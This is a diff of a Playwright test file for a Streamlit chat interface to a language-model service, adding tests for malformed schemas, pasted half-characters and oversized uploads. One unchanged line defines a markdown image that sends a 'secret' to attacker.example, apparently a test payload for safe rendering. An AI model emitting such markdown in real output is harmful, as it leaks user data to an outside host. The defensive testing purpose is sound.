@@ -126,6 +126,21 @@ async def test_everything_that_is_set_is_sent(chat: Open, service: FakeService) 
             "The JSON schema can't be used: properties.age.type is 'strin'; must be one of string, number, integer,",
         ),
         (
+            "JSON schema",
+            '{"type": "string", "maxLength": 1e400}',
+            "The JSON schema can't be used: maxLength is a number out of range; must be from -2^53 to 2^53.",
+        ),
+        (
+            "JSON schema",
+            '{"type": "string", "\\ud800": 1}',
+            "The JSON schema can't be used: \\ud800 is a key with half a character; must have its other half, too.",
+        ),
+        (
+            "Tools",
+            f'[{{"name": "f", "parameters": {{"type": "object", "minProperties": {"9" * 400}}}}}]',
+            "The tools can't be used: [0].parameters.minProperties is a number out of range; must be from",
+        ),
+        (
             "Tools",
             '[{"nmae": "f"}]',
             "The tools can't be used: [0].nmae is not a key of a function; did you mean 'name'?",
@@ -154,6 +169,40 @@ async def test_what_cannot_be_read_is_said_and_not_sent(
     await page.not_asked().get_by_role("button", name="Ask", exact=True).click()
     await expect(page.answer()).to_contain_text("Hello there.")
     await expect(page.not_asked()).to_have_count(0)
+
+
+PASTE = """(field, text) => {
+    field.focus();
+    const type = field instanceof HTMLTextAreaElement ? HTMLTextAreaElement : HTMLInputElement;
+    Object.getOwnPropertyDescriptor(type.prototype, "value").set.call(field, text);
+    field.setSelectionRange(2, 2);
+    field.dispatchEvent(new InputEvent("input", {bubbles: true, inputType: "insertFromPaste"}));
+    return [field.value, field.selectionStart];
+}"""
+
+
+async def test_half_of_a_character_can_be_pasted_anywhere(chat: Open, service: FakeService) -> None:
+    """Streamlit closes its connection when it is sent one, and the tab could do nothing any more."""
+    page = await chat()
+    await page.choose("fake-2")
+    await page.open_settings()
+    system = page.tab.get_by_label("System instruction", exact=True)
+    assert await system.evaluate(PASTE, "a\ud83d b \ud83d\ude00") == ["a\ufffd b \U0001f600", 2]
+    await system.press("Control+Enter")
+    stops = page.tab.get_by_role("combobox", name="Stop sequences")
+    await stops.fill("END")
+    assert await stops.evaluate(PASTE, "\ude00END") == ["\ufffdEND", 2]
+    await stops.press("Enter")
+    await expect(page.tab.get_by_text("\ufffdEND", exact=True)).to_be_visible()
+    await stops.press("Escape")
+    await page.settled()
+    await page.input.evaluate(PASTE, "What is \ud83d?")
+    await page.input.press("Enter")
+    await expect(page.answer()).to_contain_text("tokens in")
+    (asked,) = service.requests
+    assert asked.system_instruction == "a\ufffd b \U0001f600"
+    assert asked.config.stop_sequences == ["\ufffdEND"]
+    assert list(asked.messages) == [user("What is \ufffd?")]
 
 
 HOSTILE = "![x](http://attacker.example/?q=secret) :material/home: $x$"
@@ -366,6 +415,72 @@ async def test_a_file_that_is_not_even_uploaded_says_so_without_being_hovered_ov
     assert box is not None
     assert box["width"] > 50
     await page.photograph("not-uploaded")
+
+
+async def test_a_question_waits_for_what_is_to_become_of_a_file_that_was_not_uploaded(
+    chat: Open, service: FakeService
+) -> None:
+    page = await chat()
+    await page.choose("fake-2")
+    huge = FilePayload(name="huge.png", mimeType="image/png", buffer=bytes(30_000_000))
+    await page.attach(huge, PHOTO)
+    refusal = page.tab.get_by_role("alert").filter(has_text="can't go along")
+    without = page.tab.get_by_role("button", name="Ask without it")
+    await expect(refusal).to_have_count(0)
+    await page.ask("What is this?")
+    await expect(refusal).to_contain_text("huge.png can't go along: File must be 28.0MB or smaller. Remove it, or ask")
+    await page.photograph("refused-file")
+    await page.tab.get_by_test_id("stChatInputSubmitButton").click()
+    await expect(page.input).to_have_value("What is this?")
+    await expect(page.messages).to_have_count(0)
+    await page.tab.get_by_role("button", name="Remove huge.png").click()
+    await expect(refusal).to_have_count(0)
+    await page.input.press("Enter")
+    await expect(page.answer()).to_contain_text("tokens in")
+    # Or it goes without the file, once somebody says so.
+    await page.attach(huge)
+    await page.input.press("Enter")
+    await expect(refusal).to_contain_text("Remove it.")
+    await expect(without).to_have_count(0)  # there is nothing else to ask
+    await page.ask("And this?")
+    await without.click()
+    await expect(page.input).to_be_focused()
+    await expect(page.messages).to_have_count(4)
+    await expect(page.answer()).to_contain_text("tokens in")
+    await expect(refusal).to_have_count(0)
+    assert [one.messages[-1] for one in service.requests] == [
+        user(inline(picture(), "image/png"), "What is this?"),
+        user("And this?"),
+    ]
+
+
+async def test_a_file_of_a_draft_that_was_not_uploaded_is_told_though_another_question_goes_before(
+    chat: Open, service: FakeService
+) -> None:
+    """Streamlit clears all files away with what it sends, also those of the draft that stands there by then."""
+    page = await chat()
+    # As if another one were on its way: what is sent now waits in the browser.
+    await page.tab.evaluate(
+        "() => Object.assign(window.tokenwireInput, {sent: window.tokenwireInput.taken + 1, sentAt: Date.now()})"
+    )
+    await page.ask("alpha")
+    await expect(page.input).to_have_value("")
+    await page.attach(FilePayload(name="huge.png", mimeType="image/png", buffer=bytes(30_000_000)))
+    await page.input.fill("beta")
+    await page.tab.evaluate("() => window.tokenwireInput.took(window.tokenwireInput.sent)")
+    await expect(page.messages).to_have_count(2)
+    await expect(page.tab.get_by_test_id("stFileChip")).to_have_count(0)
+    await expect(page.input).to_have_value("beta")
+    await page.settled()
+    await page.input.press("Enter")
+    await expect(page.tab.get_by_role("alert").filter(has_text="huge.png can't go along")).to_be_visible()
+    assert len(service.requests) == 1
+    await page.tab.get_by_role("button", name="Ask without it").click()
+    await expect(page.messages).to_have_count(4)
+    await page.ask("gamma")
+    await expect(page.messages).to_have_count(6)
+    await expect(page.answer()).to_contain_text("tokens in")
+    assert [one.messages[-1] for one in service.requests] == [user("alpha"), user("beta"), user("gamma")]
 
 
 async def test_what_only_the_service_can_know_is_told_in_its_words(chat: Open, service: FakeService) -> None:
